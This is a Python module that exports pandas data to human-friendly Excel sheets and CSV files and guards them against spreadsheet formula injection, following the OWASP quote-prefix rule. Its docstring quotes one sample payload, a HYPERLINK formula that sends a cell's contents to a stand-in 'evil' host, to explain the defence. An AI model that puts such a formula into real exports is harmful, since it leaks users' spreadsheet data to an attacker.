"""Spreadsheets: sheets made for people, and cells a spreadsheet would run written as text.

**Sheets for people** (:func:`people_sheet`, :func:`about_sheet`): a workbook's
sheet has headers in words with their units ("Slack left (working days)"),
yes and no rather than TRUE and FALSE, dates as Excel dates shown as
``6 Dec 2026``, shares as percentages, set column widths, the header row (and
the first column) frozen, a filter on the header; a second sheet says what
each column means, and which CSV column holds the same values. The CSV
exports keep short machine names (``slack_left_days``) and ISO dates: they are
read by programs (pandas, scripts) that need names that never change with the
wording.

**Formula injection** (the OWASP CSV-injection rule): a step title such as
``=HYPERLINK("http://evil/?leak="&A1, "click")`` is a formula to Excel,
LibreOffice and Google Sheets when the cell starts with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return. OWASP's rule: prefix such a cell with a
single quote, so it is shown as the text it is. In a workbook the cell is also
stored as text, with Excel's quote prefix, so that editing it later does not
turn it into a formula either.
"""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import dataclass
from typing import Any, Literal

import pandas as pd

from careerlib.exceptions import ExportError

__all__ = [
    "CELL_FORMATS",
    "EXCEL_CELL_LIMIT",
    "Column",
    "about_sheet",
    "cell_value",
    "check_cell_lengths",
    "people_sheet",
    "safe_cell",
    "safe_frame",
    "secure_workbook",
    "workbook_bytes",
]

#: The most characters an Excel cell holds.
EXCEL_CELL_LIMIT = 32_767

# OWASP's list, and the full-width forms some spreadsheets read the same way
_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def safe_cell(value: Any) -> Any:
    """``value`` prefixed with ``'`` when it is text a spreadsheet would evaluate."""
    if isinstance(value, str) and value.startswith(_TRIGGERS):
        return "'" + value
    return value


def _csv_cell(value: Any) -> Any:
    if isinstance(value, str) and "\r" in value:
        # a CSV writer ending lines with \n leaves a lone \r unquoted, and a
        # spreadsheet starts a new row there: "x\r=1+1" would put a formula
        # at the start of a cell. As \n, the cell is quoted.
        value = value.replace("\r\n", "\n").replace("\r", "\n")
    return safe_cell(value)


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` for CSV: :func:`safe_cell` on every text cell and label.

    Carriage returns inside a text become line feeds, which the CSV writer quotes.
    """
    out = frame.copy()
    for col in out.columns:
        if not pd.api.types.is_numeric_dtype(out[col]) and not pd.api.types.is_bool_dtype(out[col]):
            out[col] = [_csv_cell(v) for v in out[col]]
    out.index = pd.Index([_csv_cell(v) for v in out.index], name=_csv_cell(out.index.name))
    out.columns = [_csv_cell(c) for c in out.columns]
    return out


def check_cell_lengths(frame: pd.DataFrame, sheet: str) -> None:
    """Refuse a text longer than an Excel cell holds, before the writer cuts it silently.

    Raises
    ------
    ExportError
        Naming the sheet, the row and the column, the length and the limit.
    """
    for col in frame.columns:
        for label, value in zip(frame.index, frame[col], strict=True):
            if isinstance(value, str) and len(value) > EXCEL_CELL_LIMIT:
                raise ExportError(
                    f"sheet {sheet!r}, {frame.index.name or 'row'} {label!r}, {col}: a text of "
                    f"{len(value):,} characters; an Excel cell holds at most "
                    f"{EXCEL_CELL_LIMIT:,} (shorten it, or export .csv)"
                )


def secure_workbook(workbook: Any) -> None:
    """Make every text cell of every sheet of an openpyxl workbook plain text.

    A cell that openpyxl took for a formula (its text starts with ``=``) is
    stored as a string; text a spreadsheet would evaluate gets the quote prefix.

    Raises
    ------
    ExportError
        When a cell holds more than :data:`EXCEL_CELL_LIMIT` characters, which
        Excel would cut: the message names the sheet, the cell and the limit.
    """
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                value = cell.value
                if not isinstance(value, str):
                    continue
                if len(value) > EXCEL_CELL_LIMIT:
                    raise ExportError(
                        f"sheet {sheet.title!r}, cell {cell.coordinate}: a text of "
                        f"{len(value):,} characters; an Excel cell holds at most "
                        f"{EXCEL_CELL_LIMIT:,} (shorten it, or export .csv)"
                    )
                if cell.data_type == "f" or value.startswith(_TRIGGERS):
                    cell.value = safe_cell(value)
                    cell.data_type = "s"
                    cell.quotePrefix = True


# --- sheets for people ----------------------------------------------------------

ColumnKind = Literal["text", "date", "integer", "number", "percent", "yes/no"]

#: How each kind of value shows in a cell (Excel number formats).
CELL_FORMATS: dict[str, str] = {
    "date": "d mmm yyyy",
    "integer": "0",
    "number": "0.0",
    "percent": "0%",
}


@dataclass(frozen=True)
class Column:
    """One column of a sheet for people.

    Attributes
    ----------
    name
        The frame's column (and the CSV's header).
    heading
        What a person reads at the top of the column, with its unit.
    kind
        ``text``, ``date`` (an Excel date), ``integer``, ``number`` (one
        decimal), ``percent`` (a share 0-1 shown as a whole percentage) or
        ``yes/no`` (a flag written as the words yes and no).
    meaning
        One or two sentences for the sheet that explains the columns.
    width
        The column's width [Excel characters].
    """

    name: str
    heading: str
    kind: ColumnKind
    meaning: str
    width: float = 14


def cell_value(value: Any, kind: str) -> Any:
    """A frame's value as the cell a person reads (None for a missing value)."""
    if value is None or (not isinstance(value, str) and bool(pd.isna(value))):
        return None
    if kind == "yes/no":
        return "yes" if bool(value) else "no"
    if kind == "date":
        return pd.Timestamp(value).to_pydatetime().replace(tzinfo=None)
    if kind == "integer":
        return int(value)
    if kind in ("number", "percent"):
        return float(value)
    return value if isinstance(value, str) else str(value)


def people_sheet(
    workbook: Any,
    title: str,
    frame: pd.DataFrame,
    columns: Sequence[Column],
    *,
    frozen: int = 1,
    row_name: str | None = None,
) -> Any:
    """Add a sheet of ``frame``'s ``columns`` to an openpyxl ``workbook``; returns the sheet.

    Headers in words (bold, wrapped), one row a row of ``frame``, each value as
    its column's kind says, column widths set, the header row and the first
    ``frozen`` columns frozen, a filter on the header. Cells are not yet
    secured: call :func:`secure_workbook` when the workbook is complete.
    ``row_name``: the column that names a row in an error message (``step 'a'``).

    Raises
    ------
    ExportError
        For a text longer than an Excel cell holds (see :func:`check_cell_lengths`).
    """
    from openpyxl.styles import Alignment, Font
    from openpyxl.utils import get_column_letter

    named = frame.set_index(row_name, drop=False) if row_name else frame
    check_cell_lengths(named[[c.name for c in columns]], title)
    sheet = workbook.create_sheet(title)
    sheet.append([c.heading for c in columns])
    for row in zip(*(frame[c.name].tolist() for c in columns), strict=True):
        sheet.append([cell_value(v, c.kind) for v, c in zip(row, columns, strict=True)])
    for k, col in enumerate(columns, start=1):
        letter = get_column_letter(k)
        sheet.column_dimensions[letter].width = col.width
        head = sheet[f"{letter}1"]
        head.font = Font(bold=True)
        head.alignment = Alignment(wrap_text=True, vertical="top")
        fmt = CELL_FORMATS.get(col.kind)
        for (cell,) in sheet.iter_rows(min_row=2, min_col=k, max_col=k):
            if fmt is not None:
                cell.number_format = fmt
            if col.kind == "text" and col.width >= 30:
                cell.alignment = Alignment(wrap_text=True, vertical="top")
    sheet.freeze_panes = sheet.cell(row=2, column=frozen + 1)
    sheet.auto_filter.ref = sheet.dimensions
    return sheet


def about_sheet(
    workbook: Any, columns: Sequence[Column], *, title: str = "About the columns", csv: bool = True
) -> Any:
    """Add the sheet that says what each column means (and its CSV column); returns it."""
    from openpyxl.styles import Alignment, Font

    sheet = workbook.create_sheet(title)
    sheet.append(["Column", "What it means", *(["In the CSV export"] if csv else [])])
    for col in columns:
        sheet.append([col.heading, col.meaning, *([col.name] if csv else [])])
    for letter, width in zip("ABC", (30, 90, 22), strict=False):
        sheet.column_dimensions[letter].width = width
    for cell in sheet[1]:
        cell.font = Font(bold=True)
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            cell.alignment = Alignment(wrap_text=True, vertical="top")
    sheet.freeze_panes = "A2"
    return sheet


def workbook_bytes(workbook: Any) -> bytes:
    """An openpyxl workbook as the bytes of an ``.xlsx`` file.

    openpyxl writes each sheet to a temporary file first. When that fails (a full
    disk, a size limit), the error is raised as it is, and the sheet writer it
    left half-way is closed at once and quietly: otherwise Python prints an
    "Exception ignored" traceback at exit, after the one-line message.
    """
    import gc
    import io
    import sys

    buffer = io.BytesIO()
    failure: OSError | None = None
    try:
        workbook.save(buffer)
    except OSError as exc:
        failure = exc.with_traceback(None)  # let go of the writer's frames
    if failure is not None:
        hook = sys.unraisablehook
        sys.unraisablehook = lambda _: None
        try:
            gc.collect()
        finally:
            sys.unraisablehook = hook
        raise failure
    return buffer.getvalue()
